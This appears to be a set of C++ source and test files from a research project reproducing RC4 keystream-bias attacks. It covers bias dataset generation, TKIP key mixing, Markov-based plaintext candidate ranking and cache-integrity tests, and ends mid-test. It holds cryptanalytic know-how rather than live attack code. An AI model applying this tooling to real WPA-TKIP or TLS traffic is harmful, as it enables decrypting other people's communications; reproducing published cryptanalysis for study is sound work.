    EXPECT_LE(bracket.lower, static_cast<double>(exact) * 1.02 + 3) << "seed " << seed;
    EXPECT_GE(bracket.upper + 3, static_cast<double>(exact) * 0.98) << "seed " << seed;
  }
}

TEST(MarkovRankTest, ViterbiPathHasRankZero) {
  const std::vector<uint8_t> alphabet = {'0', '1', '2', '3'};
  const auto transitions = RandomTransitions(6, 30);
  const Bytes best = MarkovBest(transitions, 'A', 'Z', 5, alphabet);
  const auto bracket = MarkovRank(transitions, 'A', 'Z', best, alphabet);
  EXPECT_DOUBLE_EQ(bracket.lower, 0.0);
}

TEST(MarkovBestTest, MatchesExhaustiveArgmax) {
  const std::vector<uint8_t> alphabet = {'a', 'b', 'c'};
  const auto transitions = RandomTransitions(4, 31);  // 3 unknown bytes
  const Bytes best = MarkovBest(transitions, 'S', 'E', 3, alphabet);
  // Its exhaustive rank must be zero.
  EXPECT_EQ(ExhaustiveMarkovRank(transitions, 'S', 'E', best, alphabet), 0u);
}

TEST(MarkovBestTest, LengthAndAlphabetRespected) {
  const std::vector<uint8_t> alphabet = {'q', 'w'};
  const auto transitions = RandomTransitions(8, 32);
  const Bytes best = MarkovBest(transitions, 'S', 'E', 7, alphabet);
  ASSERT_EQ(best.size(), 7u);
  for (uint8_t b : best) {
    EXPECT_TRUE(b == 'q' || b == 'w');
  }
}

}  // namespace
}  // namespace rc4b
