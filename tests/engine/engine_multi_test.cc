#include <gtest/gtest.h>

#include "src/engine/accumulators.h"
#include "src/engine/keystream_engine.h"
#include "src/rc4/rc4_multi.h"

namespace rc4b {
namespace {

// Engine-level bit-exactness of the interleaved multi-stream path: for every
// supported width, every accumulator's merged grid must equal the scalar
// (interleave = 1) reference, for 1/2/4 workers, including tail groups
// (keys % M != 0) and nonzero drop. This is the golden-output guarantee that
// lets the kernel be the default batch producer.

constexpr size_t kWidths[] = {2, 4, 8, 16, 32, 64};

EngineOptions ShortTermOptions(size_t interleave, unsigned workers) {
  EngineOptions options;
  options.keys = 1037;  // not divisible by any width: scalar tails everywhere
  options.workers = workers;
  options.seed = 23;
  options.drop = 3;
  options.batch_keys = 48;  // not a multiple of 32: per-batch tails too
  options.interleave = interleave;
  return options;
}

TEST(EngineMultiStreamTest, SingleByteGridMatchesScalarPath) {
  SingleByteAccumulator reference(8);
  RunKeystreamEngine(ShortTermOptions(1, 1), reference);
  for (const size_t width : kWidths) {
    for (const unsigned workers : {1u, 2u, 4u}) {
      SingleByteAccumulator multi(8);
      RunKeystreamEngine(ShortTermOptions(width, workers), multi);
      ASSERT_TRUE(reference.grid() == multi.grid())
          << "interleave=" << width << " workers=" << workers;
    }
  }
}

TEST(EngineMultiStreamTest, ConsecutiveGridMatchesScalarPath) {
  ConsecutiveAccumulator reference(4);
  RunKeystreamEngine(ShortTermOptions(1, 1), reference);
  for (const size_t width : kWidths) {
    for (const unsigned workers : {1u, 2u, 4u}) {
      ConsecutiveAccumulator multi(4);
      RunKeystreamEngine(ShortTermOptions(width, workers), multi);
      ASSERT_TRUE(reference.grid() == multi.grid())
          << "interleave=" << width << " workers=" << workers;
    }
  }
}

TEST(EngineMultiStreamTest, PairGridMatchesScalarPath) {
  const std::vector<std::pair<uint32_t, uint32_t>> pairs = {{1, 2}, {3, 16}};
  PairAccumulator reference(pairs);
  RunKeystreamEngine(ShortTermOptions(1, 1), reference);
  for (const size_t width : kWidths) {
    for (const unsigned workers : {1u, 2u, 4u}) {
      PairAccumulator multi(pairs);
      RunKeystreamEngine(ShortTermOptions(width, workers), multi);
      ASSERT_TRUE(reference.grid() == multi.grid())
          << "interleave=" << width << " workers=" << workers;
    }
  }
}

LongTermEngineOptions LongTermOptions(size_t interleave, unsigned workers) {
  LongTermEngineOptions options;
  options.keys = 5;  // 5 % M != 0 for every width: scalar key remainder
  options.bytes_per_key = (1 << 13) + 512;  // tail window below chunk_bytes
  options.drop = 512;
  options.workers = workers;
  options.seed = 29;
  options.chunk_bytes = 1 << 12;
  options.interleave = interleave;
  return options;
}

TEST(EngineMultiStreamTest, LongTermDigraphGridMatchesScalarPath) {
  LongTermDigraphAccumulator reference;
  RunLongTermEngine(LongTermOptions(1, 1), reference);
  for (const size_t width : kWidths) {
    for (const unsigned workers : {1u, 2u, 4u}) {
      LongTermDigraphAccumulator multi;
      RunLongTermEngine(LongTermOptions(width, workers), multi);
      ASSERT_TRUE(reference.grid() == multi.grid())
          << "interleave=" << width << " workers=" << workers;
    }
  }
}

TEST(EngineMultiStreamTest, AbsabAndAlignedPairsMatchScalarPath) {
  // ABSAB exercises lookahead carry across lockstep windows; AlignedPair
  // exercises the hoisted ExtraDrop() (255-byte realignment) on every path.
  AbsabAccumulator absab_reference(6);
  RunLongTermEngine(LongTermOptions(1, 1), absab_reference);
  AlignedPairAccumulator aligned_reference(0, 2);
  RunLongTermEngine(LongTermOptions(1, 1), aligned_reference);
  for (const size_t width : kWidths) {
    AbsabAccumulator absab(6);
    RunLongTermEngine(LongTermOptions(width, 2), absab);
    ASSERT_EQ(absab_reference.matches(), absab.matches()) << "width=" << width;
    ASSERT_EQ(absab_reference.samples(), absab.samples()) << "width=" << width;

    AlignedPairAccumulator aligned(0, 2);
    RunLongTermEngine(LongTermOptions(width, 2), aligned);
    ASSERT_EQ(aligned_reference.counts(), aligned.counts()) << "width=" << width;
  }
}

TEST(EngineMultiStreamTest, AutoWidthEqualsResolvedDefault) {
  // interleave = 0 must behave exactly like the resolved default width.
  SingleByteAccumulator auto_width(6);
  RunKeystreamEngine(ShortTermOptions(0, 2), auto_width);
  SingleByteAccumulator pinned(6);
  RunKeystreamEngine(ShortTermOptions(kDefaultInterleave, 2), pinned);
  SingleByteAccumulator scalar(6);
  RunKeystreamEngine(ShortTermOptions(1, 1), scalar);
  EXPECT_TRUE(auto_width.grid() == pinned.grid());
  EXPECT_TRUE(auto_width.grid() == scalar.grid());
}

}  // namespace
}  // namespace rc4b
