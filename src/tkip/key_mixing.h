// TKIP per-packet key mixing (IEEE 802.11, clause 11.4.2.5 — the "temporal
// key hash"): phase 1 mixes the temporal key TK with the transmitter address
// and the upper 32 bits of the TKIP sequence counter (TSC); phase 2 mixes in
// the lower 16 TSC bits and emits the 16-byte per-packet RC4 key.
//
// The attack-relevant property (Sect. 2.2 of the paper): the first three RC4
// key bytes are a *public* function of the TSC,
//   K0 = TSC1,  K1 = (TSC1 | 0x20) & 0x7f,  K2 = TSC0,
// and the remaining bytes behave as uniformly random. Both the real mixing
// below and the fast model in tsc_model.h expose exactly this structure.
#ifndef SRC_TKIP_KEY_MIXING_H_
#define SRC_TKIP_KEY_MIXING_H_

#include <array>
#include <cstdint>
#include <span>

namespace rc4b {

using TkipPhase1Key = std::array<uint16_t, 5>;
using Rc4PacketKey = std::array<uint8_t, 16>;

// Phase 1: TK (16 bytes), transmitter address (6 bytes), IV32 = TSC >> 16.
TkipPhase1Key TkipPhase1(std::span<const uint8_t> tk, std::span<const uint8_t> ta,
                         uint32_t iv32);

// Phase 2: phase-1 output, TK, IV16 = TSC & 0xffff.
Rc4PacketKey TkipPhase2(const TkipPhase1Key& p1k, std::span<const uint8_t> tk,
                        uint16_t iv16);

// Convenience: full mixing for a 48-bit TSC.
Rc4PacketKey TkipMixKey(std::span<const uint8_t> tk, std::span<const uint8_t> ta,
                        uint64_t tsc48);

// The public first three key bytes implied by the TSC (Sect. 2.2).
std::array<uint8_t, 3> TkipPublicKeyBytes(uint16_t iv16);

}  // namespace rc4b

#endif  // SRC_TKIP_KEY_MIXING_H_
