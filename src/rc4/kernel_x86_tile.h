// 16x16 byte transpose for the x86 lane kernels' tiled emit
// (kernel_lanes.h). Shared by kernel_ssse3.cc / kernel_avx2.cc /
// kernel_avx512.cc, which are each compiled with their own -m flags — the
// ops here are plain SSE2, the floor of all three, and the wider TUs get
// the VEX/EVEX encodings of the same instructions for free.
//
// Only include from a TU already gated on an x86 SIMD macro (__SSSE3__ /
// __AVX2__ / __AVX512BW__); the guard below is a second line of defense.
#ifndef SRC_RC4_KERNEL_X86_TILE_H_
#define SRC_RC4_KERNEL_X86_TILE_H_

#if defined(__SSE2__)

#include <immintrin.h>

#include <cstddef>
#include <cstdint>

namespace rc4b {

// Transposes the 16x16 byte block at src (rows src_stride apart) into dst
// (rows dst_stride apart): dst[c * dst_stride + r] = src[r * src_stride + c].
// Classic four-stage unpack ladder: each stage riffles adjacent register
// pairs at doubling granularity (8/16/32/64 bit), writing the low halves to
// the front and the high halves to the back of the register file. Four such
// stages leave register p holding column bitreverse4(p), so the stores
// un-reverse the index instead of spending a fifth shuffle stage.
inline void TransposeBlock16x16(const uint8_t* src, size_t src_stride,
                                uint8_t* dst, size_t dst_stride) {
  __m128i x[16];
  __m128i y[16];
  for (int r = 0; r < 16; ++r) {
    x[r] = _mm_loadu_si128(reinterpret_cast<const __m128i*>(src + r * src_stride));
  }
  for (int p = 0; p < 8; ++p) {
    y[p] = _mm_unpacklo_epi8(x[2 * p], x[2 * p + 1]);
    y[p + 8] = _mm_unpackhi_epi8(x[2 * p], x[2 * p + 1]);
  }
  for (int p = 0; p < 8; ++p) {
    x[p] = _mm_unpacklo_epi16(y[2 * p], y[2 * p + 1]);
    x[p + 8] = _mm_unpackhi_epi16(y[2 * p], y[2 * p + 1]);
  }
  for (int p = 0; p < 8; ++p) {
    y[p] = _mm_unpacklo_epi32(x[2 * p], x[2 * p + 1]);
    y[p + 8] = _mm_unpackhi_epi32(x[2 * p], x[2 * p + 1]);
  }
  for (int p = 0; p < 8; ++p) {
    x[p] = _mm_unpacklo_epi64(y[2 * p], y[2 * p + 1]);
    x[p + 8] = _mm_unpackhi_epi64(y[2 * p], y[2 * p + 1]);
  }
  static constexpr int kBitRev4[16] = {0, 8,  4, 12, 2, 10, 6, 14,
                                       1, 9, 5, 13, 3, 11, 7, 15};
  for (int p = 0; p < 16; ++p) {
    _mm_storeu_si128(reinterpret_cast<__m128i*>(dst + kBitRev4[p] * dst_stride),
                     x[p]);
  }
}

}  // namespace rc4b

#endif  // defined(__SSE2__)

#endif  // SRC_RC4_KERNEL_X86_TILE_H_
