// Keystream dataset generation (Sect. 3.2 of the paper).
//
// The paper built three main datasets on a ~80-machine cluster:
//   * consec512 — Pr[Z_r = x, Z_{r+1} = y] for r <= 512 (2^45 keys),
//   * first16  — Pr[Z_a = x, Z_b = y] for a <= 16, b <= 256 (2^44 keys),
//   * a long-term variant with 2^40 bytes per key (2^12 keys).
// We reproduce the same worker structure — AES-CTR-derived random 128-bit RC4
// keys, 16-bit worker counters flushed into 64-bit merge grids — scaled to a
// single machine with configurable key counts (see DESIGN.md).
#ifndef SRC_BIASES_DATASET_H_
#define SRC_BIASES_DATASET_H_

#include <cstdint>
#include <string>
#include <utility>
#include <vector>

#include "src/stats/counters.h"

namespace rc4b {

struct DatasetOptions {
  uint64_t keys = 1 << 20;  // RC4 keys to sample
  unsigned workers = 0;     // 0 = hardware concurrency
  // Seed of the single AES-CTR key stream all workers share; key k is key
  // number k of that stream, so counts are bit-identical for any `workers`
  // (see src/engine/keystream_engine.h).
  uint64_t seed = 1;
  // RC4 streams generated in lockstep (0 = auto, 1 = scalar); counts are
  // bit-identical for any width — see EngineOptions::interleave.
  size_t interleave = 0;
  // Lane-kernel name ("" = auto); bit-identical for any kernel — see
  // EngineOptions::kernel.
  std::string kernel;
  // Global index of the first key: the dataset covers keys [first_key,
  // first_key + keys) of the seed's stream. Nonzero when a shard of a
  // distributed generation run (src/store/manifest.h) computes its slice.
  uint64_t first_key = 0;
  // When set (and first_key == 0), generators load the grid from this
  // directory instead of regenerating, or generate once and store it —
  // see store::GridCache. Cached and regenerated grids are bit-identical.
  std::string cache_dir;
};

// Single-byte statistics: counts of Z_r for 1 <= r <= positions.
SingleByteGrid GenerateSingleByteDataset(size_t positions, const DatasetOptions& options);

// Consecutive-digraph statistics ("consec512"-style): counts of
// (Z_r, Z_{r+1}) for 1 <= r <= positions.
DigraphGrid GenerateConsecutiveDataset(size_t positions, const DatasetOptions& options);

// Arbitrary position-pair statistics ("first16"-style): for each requested
// (a, b) with 1 <= a < b, counts of (Z_a, Z_b). Grid row p corresponds to
// pairs[p].
DigraphGrid GeneratePairDataset(const std::vector<std::pair<uint32_t, uint32_t>>& pairs,
                                const DatasetOptions& options);

// Long-term statistics: per key, drops `drop` initial bytes, then accumulates
// digraphs (Z_r, Z_{r+1}) bucketed by r mod 256 over `bytes_per_key` bytes.
// Row p of the grid is the PRGA-counter class i = (p + 1) mod 256 ... i.e.
// row index equals (r - 1) mod 256 of the first digraph byte.
struct LongTermOptions {
  uint64_t keys = 1 << 8;
  uint64_t bytes_per_key = 1 << 24;
  uint64_t drop = 1024;  // paper drops the initial 1023 bytes; we drop 1024
  unsigned workers = 0;
  uint64_t seed = 1;  // shared AES-CTR stream seed (worker-count invariant)
  size_t interleave = 0;   // lockstep stream count (0 = auto, 1 = scalar)
  std::string kernel;      // lane-kernel name ("" = auto)
  uint64_t first_key = 0;  // global key-range offset (see DatasetOptions)
  std::string cache_dir;   // GridCache directory (digraph dataset only)
};
DigraphGrid GenerateLongTermDigraphDataset(const LongTermOptions& options);

// Long-term ABSAB statistics: counts of matching differentials
// (Z_r = Z_{r+g+2} and Z_{r+1} = Z_{r+g+3}) per gap g in [0, max_gap],
// alongside the number of samples per gap. Used to validate formula (1).
struct AbsabCounts {
  std::vector<uint64_t> matches;  // indexed by gap
  std::vector<uint64_t> samples;  // indexed by gap
};
AbsabCounts GenerateAbsabDataset(uint64_t max_gap, const LongTermOptions& options);

// Long-term aligned-digraph statistics for (Z_{256w + a}, Z_{256w + b}):
// counts over the 65536 value pairs, for one (a, b) offset pair with
// 0 <= a < b < 256. Validates Sen Gupta's (0,0) and the paper's new (128,0)
// bias at (a, b) = (0, 2) — formula (8).
std::vector<uint64_t> GenerateAlignedPairDataset(uint32_t offset_a, uint32_t offset_b,
                                                 const LongTermOptions& options);

}  // namespace rc4b

#endif  // SRC_BIASES_DATASET_H_
