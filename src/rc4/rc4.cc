#include "src/rc4/rc4.h"

#include <cassert>
#include <numeric>

namespace rc4b {

Rc4::Rc4(std::span<const uint8_t> key) {
  assert(!key.empty() && key.size() <= 256);
  std::iota(s_.begin(), s_.end(), 0);
  uint8_t j = 0;
  for (int i = 0; i < 256; ++i) {
    j = static_cast<uint8_t>(j + s_[i] + key[static_cast<size_t>(i) % key.size()]);
    std::swap(s_[i], s_[j]);
  }
}

}  // namespace rc4b
