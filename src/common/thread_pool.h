// Minimal fork-join thread pool used by dataset generation and the benchmark
// harnesses. The paper distributed keystream-statistics generation over ~80
// machines; our substitute parallelizes the same worker/merge structure over
// local cores (see DESIGN.md "Substitutions").
#ifndef SRC_COMMON_THREAD_POOL_H_
#define SRC_COMMON_THREAD_POOL_H_

#include <cstdint>
#include <functional>
#include <thread>
#include <vector>

namespace rc4b {

// Runs fn(worker_index) on `workers` threads and joins them all.
// `workers == 0` selects the hardware concurrency.
void ParallelFor(unsigned workers, const std::function<void(unsigned)>& fn);

// Splits [0, total) into contiguous chunks, one per worker, and invokes
// fn(worker_index, begin, end). Used to shard keys/simulations across cores.
void ParallelChunks(uint64_t total, unsigned workers,
                    const std::function<void(unsigned, uint64_t, uint64_t)>& fn);

// Number of workers ParallelFor(0, ...) would use.
unsigned DefaultWorkerCount();

}  // namespace rc4b

#endif  // SRC_COMMON_THREAD_POOL_H_
