#include "src/core/synthetic.h"

#include <cmath>
#include <numeric>

#include <gtest/gtest.h>

#include "src/biases/fluhrer_mcgrew.h"
#include "src/biases/mantin.h"
#include "src/core/likelihood.h"
#include "src/rc4/rc4.h"

namespace rc4b {
namespace {

TEST(PoissonTest, ZeroMean) {
  Xoshiro256 rng(1);
  EXPECT_EQ(SamplePoisson(0.0, rng), 0u);
  EXPECT_EQ(SamplePoisson(-1.0, rng), 0u);
}

TEST(PoissonTest, SmallMeanMoments) {
  Xoshiro256 rng(2);
  const double mean = 3.7;
  const int n = 100000;
  double sum = 0.0, sum2 = 0.0;
  for (int i = 0; i < n; ++i) {
    const double x = static_cast<double>(SamplePoisson(mean, rng));
    sum += x;
    sum2 += x * x;
  }
  const double m = sum / n;
  const double var = sum2 / n - m * m;
  EXPECT_NEAR(m, mean, 0.05);
  EXPECT_NEAR(var, mean, 0.1);  // Poisson: variance == mean
}

TEST(PoissonTest, LargeMeanMoments) {
  Xoshiro256 rng(3);
  const double mean = 1e6;  // normal-approximation path
  const int n = 20000;
  double sum = 0.0, sum2 = 0.0;
  for (int i = 0; i < n; ++i) {
    const double x = static_cast<double>(SamplePoisson(mean, rng));
    sum += x;
    sum2 += x * x;
  }
  const double m = sum / n;
  const double var = sum2 / n - m * m;
  EXPECT_NEAR(m, mean, 50.0);
  EXPECT_NEAR(var / mean, 1.0, 0.05);
}

TEST(SampleCountsTest, TotalsNearTrials) {
  Xoshiro256 rng(4);
  std::vector<double> p(1000, 1.0 / 1000.0);
  const uint64_t trials = 1 << 22;
  const auto counts = SampleCounts(p, trials, rng);
  const uint64_t total = std::accumulate(counts.begin(), counts.end(), uint64_t{0});
  // Poissonization: total ~ Poisson(trials), sd ~ 2048.
  EXPECT_NEAR(static_cast<double>(total), static_cast<double>(trials), 6 * 2048.0);
}

TEST(SampleCountsTest, BiasedCellElevated) {
  Xoshiro256 rng(5);
  std::vector<double> p(256, (1.0 - 0.02) / 255.0);
  p[9] = 0.02;  // ~5x uniform
  const auto counts = SampleCounts(p, 1 << 20, rng);
  const double expected = 0.02 * (1 << 20);
  EXPECT_NEAR(static_cast<double>(counts[9]), expected, 6 * std::sqrt(expected));
}

// The sampler must agree with exact real-RC4 simulation: compare the
// distribution of FM-digraph ciphertext counts from (a) real RC4 long-term
// keystream and (b) the synthetic sampler, via their likelihood decisions.
TEST(EmpiricalGridTest, ProbabilitiesNormalizeGridRow) {
  DigraphGrid grid(1);
  grid.Add(0, 3, 7, 60);
  grid.Add(0, 200, 1, 40);
  grid.AddKeys(100);
  const auto probs = EmpiricalPairProbabilities(grid, 0);
  ASSERT_EQ(probs.size(), 65536u);
  EXPECT_DOUBLE_EQ(probs[static_cast<size_t>(3) * 256 + 7], 0.6);
  EXPECT_DOUBLE_EQ(probs[static_cast<size_t>(200) * 256 + 1], 0.4);
  EXPECT_DOUBLE_EQ(std::accumulate(probs.begin(), probs.end(), 0.0), 1.0);
}

TEST(EmpiricalGridTest, CiphertextCountsFollowXorShiftedGridRow) {
  // All keystream mass on (k1, k2) = (3, 7): every sampled ciphertext count
  // must land on (3 ^ p1, 7 ^ p2).
  DigraphGrid grid(1);
  grid.Add(0, 3, 7, 1000);
  grid.AddKeys(1000);
  Xoshiro256 rng(29);
  const uint8_t p1 = 0x41, p2 = 0x42;
  const auto counts = SampleCiphertextPairCountsFromGrid(grid, 0, p1, p2, 10000, rng);
  ASSERT_EQ(counts.size(), 65536u);
  const size_t target = static_cast<size_t>(3 ^ p1) * 256 + (7 ^ p2);
  EXPECT_GT(counts[target], 9000u);
  for (size_t cell = 0; cell < counts.size(); ++cell) {
    if (cell != target) {
      ASSERT_EQ(counts[cell], 0u) << "cell " << cell;
    }
  }
}

TEST(SyntheticVsExactTest, FmCountsMatchRealRc4Statistics) {
  const uint8_t p1 = 0x11, p2 = 0x22;
  // Real side: collect digraph counts at a fixed counter i across keystream
  // blocks (i = 5, positions 256w + 5).
  Xoshiro256 seed_rng(6);
  std::vector<uint64_t> real_counts(65536, 0);
  uint64_t real_total = 0;
  Bytes key(16);
  seed_rng.Fill(key);
  Rc4 rc4(key);
  rc4.Skip(1024);
  rc4.Skip(4);  // next byte is position 1029 => counter i = 5
  std::vector<uint8_t> pair(2);
  for (int w = 0; w < (1 << 16); ++w) {
    rc4.Keystream(pair);
    real_counts[static_cast<size_t>(pair[0] ^ p1) * 256 + (pair[1] ^ p2)] += 1;
    ++real_total;
    rc4.Skip(254);  // realign to the same counter
  }
  // Synthetic side with the same number of trials.
  Xoshiro256 rng(7);
  const auto table = FmDigraphTable(5, 1 << 20);
  const auto synth_counts = SampleCiphertextPairCounts(table, p1, p2, real_total, rng);

  // Compare aggregate statistics: mean and spread of cell counts.
  const double expected_cell = static_cast<double>(real_total) / 65536.0;
  auto stats = [&](const std::vector<uint64_t>& counts) {
    double sum = 0.0, sum2 = 0.0;
    for (uint64_t c : counts) {
      sum += static_cast<double>(c);
      sum2 += static_cast<double>(c) * static_cast<double>(c);
    }
    const double mean = sum / 65536.0;
    return std::pair<double, double>(mean, sum2 / 65536.0 - mean * mean);
  };
  const auto [real_mean, real_var] = stats(real_counts);
  const auto [synth_mean, synth_var] = stats(synth_counts);
  EXPECT_NEAR(real_mean, expected_cell, 0.2);
  EXPECT_NEAR(synth_mean, expected_cell, 0.2);
  // Both should be approximately Poisson-dispersed (variance ~ mean).
  EXPECT_NEAR(real_var / real_mean, 1.0, 0.1);
  EXPECT_NEAR(synth_var / synth_mean, 1.0, 0.1);
}

TEST(AbsabScoreTableTest, TruthCellElevatedOnAverage) {
  // With many gaps and enough trials, the true differential's aggregated
  // score must exceed the null mean most of the time.
  std::vector<double> alphas;
  for (uint64_t g = 0; g <= 128; ++g) {
    alphas.push_back(AbsabAlpha(g));
    alphas.push_back(AbsabAlpha(g));  // both directions
  }
  Xoshiro256 rng(8);
  const uint16_t truth = 0xbeef;
  int truth_wins = 0;
  const int trials = 30;
  for (int t = 0; t < trials; ++t) {
    const auto table = SampleAbsabScoreTable(alphas, uint64_t{1} << 34, truth, rng);
    truth_wins += ArgMax(table) == truth ? 1 : 0;
  }
  // 2^34 ciphertexts with 258 ABSAB estimates: Fig. 7 shows ~100% recovery.
  EXPECT_GE(truth_wins, 27);
}

TEST(AbsabScoreTableTest, SmallTrialsUsePoissonPathAndStayFinite) {
  std::vector<double> alphas = {AbsabAlpha(0), AbsabAlpha(1)};
  Xoshiro256 rng(9);
  const auto table = SampleAbsabScoreTable(alphas, 1 << 16, 0x0102, rng);
  ASSERT_EQ(table.size(), 65536u);
  for (double v : table) {
    EXPECT_TRUE(std::isfinite(v));
    EXPECT_GE(v, 0.0);  // scores are sums of non-negative weighted counts
  }
}

TEST(AbsabScoreTableTest, NullCellsHaveExpectedMoments) {
  std::vector<double> alphas = {AbsabAlpha(3)};
  const double alpha = alphas[0];
  const uint64_t trials = uint64_t{1} << 30;
  const double w = AbsabLogOdds(3);
  const double null_mean = w * static_cast<double>(trials) * (1.0 - alpha) / 65535.0;

  Xoshiro256 rng(10);
  const auto table = SampleAbsabScoreTable(alphas, trials, 0, rng);
  double sum = 0.0;
  for (size_t d = 1; d < 65536; ++d) {
    sum += table[d];
  }
  const double mean = sum / 65535.0;
  EXPECT_NEAR(mean / null_mean, 1.0, 0.001);
}

}  // namespace
}  // namespace rc4b
