// GridCache warm-start contract (docs/store.md): a cached grid is loaded
// only when its provenance matches exactly and is bit-identical to
// regenerating; anything else regenerates — never a silent wrong answer.
#include "src/store/grid_cache.h"

#include <algorithm>
#include <cstdio>
#include <fstream>
#include <string>

#include <gtest/gtest.h>

#include "src/recovery/scenario.h"
#include "src/store/shard_runner.h"

namespace rc4b::store {
namespace {

std::string FreshDir(const char* name) {
  const std::string dir = std::string(::testing::TempDir()) + "/" + name;
  MakeDirs(dir);
  return dir;
}

DatasetOptions SmallOptions(const std::string& cache_dir) {
  DatasetOptions options;
  options.keys = 1024;
  options.seed = 41;
  options.workers = 2;
  options.cache_dir = cache_dir;
  return options;
}

template <typename Grid>
void ExpectSameGrid(const Grid& a, const Grid& b) {
  EXPECT_EQ(a.keys(), b.keys());
  ASSERT_EQ(a.Cells().size(), b.Cells().size());
  EXPECT_TRUE(std::equal(a.Cells().begin(), a.Cells().end(), b.Cells().begin()));
}

TEST(GridCacheTest, SingleByteWarmStartIsBitExact) {
  const std::string dir = FreshDir("cache-sb");
  const DatasetOptions cached = SmallOptions(dir);
  DatasetOptions fresh = cached;
  fresh.cache_dir.clear();

  const SingleByteGrid first = GenerateSingleByteDataset(12, cached);
  // The miss stored a grid file in the cache directory.
  const std::string path = GridCache(dir).PathFor(MetaForSingleByte(12, cached));
  StoredGrid stored;
  EXPECT_TRUE(ReadGridFile(path, &stored).ok());

  const SingleByteGrid warm = GenerateSingleByteDataset(12, cached);
  const SingleByteGrid reference = GenerateSingleByteDataset(12, fresh);
  ExpectSameGrid(warm, first);
  ExpectSameGrid(warm, reference);
}

TEST(GridCacheTest, EveryDigraphFamilyWarmStartsBitExactly) {
  const std::string dir = FreshDir("cache-digraph");
  const DatasetOptions cached = SmallOptions(dir);
  DatasetOptions fresh = cached;
  fresh.cache_dir.clear();

  ExpectSameGrid(GenerateConsecutiveDataset(4, cached),
                 GenerateConsecutiveDataset(4, fresh));
  ExpectSameGrid(GenerateConsecutiveDataset(4, cached),  // now a cache hit
                 GenerateConsecutiveDataset(4, fresh));

  const std::vector<std::pair<uint32_t, uint32_t>> pairs = {{1, 2}, {2, 300}};
  ExpectSameGrid(GeneratePairDataset(pairs, cached),
                 GeneratePairDataset(pairs, fresh));
  ExpectSameGrid(GeneratePairDataset(pairs, cached),
                 GeneratePairDataset(pairs, fresh));

  LongTermOptions lt;
  lt.keys = 4;
  lt.bytes_per_key = 2048;
  lt.drop = 256;
  lt.seed = 41;
  lt.workers = 2;
  LongTermOptions lt_cached = lt;
  lt_cached.cache_dir = dir;
  ExpectSameGrid(GenerateLongTermDigraphDataset(lt_cached),
                 GenerateLongTermDigraphDataset(lt));
  ExpectSameGrid(GenerateLongTermDigraphDataset(lt_cached),
                 GenerateLongTermDigraphDataset(lt));
}

TEST(GridCacheTest, DistinctProvenanceGetsDistinctFiles) {
  const GridCache cache("/cache");
  const DatasetOptions options = SmallOptions("/cache");
  DatasetOptions other = options;
  other.seed = 42;
  EXPECT_NE(cache.PathFor(MetaForSingleByte(12, options)),
            cache.PathFor(MetaForSingleByte(12, other)));
  EXPECT_NE(cache.PathFor(MetaForSingleByte(12, options)),
            cache.PathFor(MetaForSingleByte(13, options)));
  EXPECT_NE(cache.PathFor(MetaForPair({{1, 2}}, options)),
            cache.PathFor(MetaForPair({{1, 3}}, options)));
}

TEST(GridCacheTest, CorruptCacheFileIsRegeneratedCorrectly) {
  const std::string dir = FreshDir("cache-corrupt");
  const DatasetOptions cached = SmallOptions(dir);
  DatasetOptions fresh = cached;
  fresh.cache_dir.clear();

  GenerateSingleByteDataset(6, cached);  // populate
  const std::string path = GridCache(dir).PathFor(MetaForSingleByte(6, cached));
  {
    std::ofstream out(path, std::ios::binary | std::ios::trunc);
    out << "scribbled over";
  }
  StoredGrid probe;
  EXPECT_FALSE(GridCache(dir).TryLoad(MetaForSingleByte(6, cached), &probe).ok());

  // The corrupt file is rejected, regenerated and re-stored.
  ExpectSameGrid(GenerateSingleByteDataset(6, cached),
                 GenerateSingleByteDataset(6, fresh));
  EXPECT_TRUE(GridCache(dir).TryLoad(MetaForSingleByte(6, cached), &probe).ok());
}

TEST(GridCacheTest, TruncatedCacheFileIsRegeneratedCorrectly) {
  const std::string dir = FreshDir("cache-truncated");
  const DatasetOptions cached = SmallOptions(dir);
  DatasetOptions fresh = cached;
  fresh.cache_dir.clear();

  GenerateSingleByteDataset(6, cached);  // populate
  const std::string path = GridCache(dir).PathFor(MetaForSingleByte(6, cached));
  // Cut the file mid-payload: a torn copy or a disk that filled up. The
  // header still parses, so only the length/checksum validation catches it.
  StoredGrid stored;
  ASSERT_TRUE(ReadGridFile(path, &stored).ok());
  {
    std::ifstream in(path, std::ios::binary);
    std::string bytes((std::istreambuf_iterator<char>(in)),
                      std::istreambuf_iterator<char>());
    std::ofstream out(path, std::ios::binary | std::ios::trunc);
    out.write(bytes.data(), static_cast<std::streamsize>(bytes.size() / 2));
  }
  StoredGrid probe;
  EXPECT_FALSE(GridCache(dir).TryLoad(MetaForSingleByte(6, cached), &probe).ok());

  ExpectSameGrid(GenerateSingleByteDataset(6, cached),
                 GenerateSingleByteDataset(6, fresh));
  EXPECT_TRUE(GridCache(dir).TryLoad(MetaForSingleByte(6, cached), &probe).ok());
}

TEST(GridCacheTest, ForeignProvenanceEntryIsRejectedAndReplaced) {
  const std::string dir = FreshDir("cache-foreign");
  const DatasetOptions cached = SmallOptions(dir);
  DatasetOptions fresh = cached;
  fresh.cache_dir.clear();

  GenerateSingleByteDataset(6, cached);  // populate
  const std::string path = GridCache(dir).PathFor(MetaForSingleByte(6, cached));

  // Overwrite the entry with a structurally valid grid file generated under
  // a different seed — checksums pass, provenance must not.
  DatasetOptions other = cached;
  other.seed = cached.seed + 1;
  other.cache_dir.clear();
  GridMeta foreign_meta = MetaForSingleByte(6, other);
  const StoredGrid foreign = GenerateStoredGrid(foreign_meta, 1, 0);
  ASSERT_TRUE(WriteGridFile(path, foreign.meta, foreign.cells).ok());

  StoredGrid probe;
  const IoStatus status =
      GridCache(dir).TryLoad(MetaForSingleByte(6, cached), &probe);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("seed"), std::string::npos);

  // The poisoned entry is never used: the next request regenerates the true
  // grid and stores it back over the impostor.
  ExpectSameGrid(GenerateSingleByteDataset(6, cached),
                 GenerateSingleByteDataset(6, fresh));
  EXPECT_TRUE(GridCache(dir).TryLoad(MetaForSingleByte(6, cached), &probe).ok());
  EXPECT_EQ(probe.meta.seed, cached.seed);
}

TEST(GridCacheTest, MissingFileReportsPath) {
  const GridCache cache(FreshDir("cache-miss"));
  StoredGrid probe;
  const IoStatus status =
      cache.TryLoad(MetaForSingleByte(6, SmallOptions(cache.dir())), &probe);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find(cache.dir()), std::string::npos);
}

TEST(GridCacheTest, ShardSlicesBypassTheCache) {
  const std::string dir = FreshDir("cache-shard");
  DatasetOptions options = SmallOptions(dir);
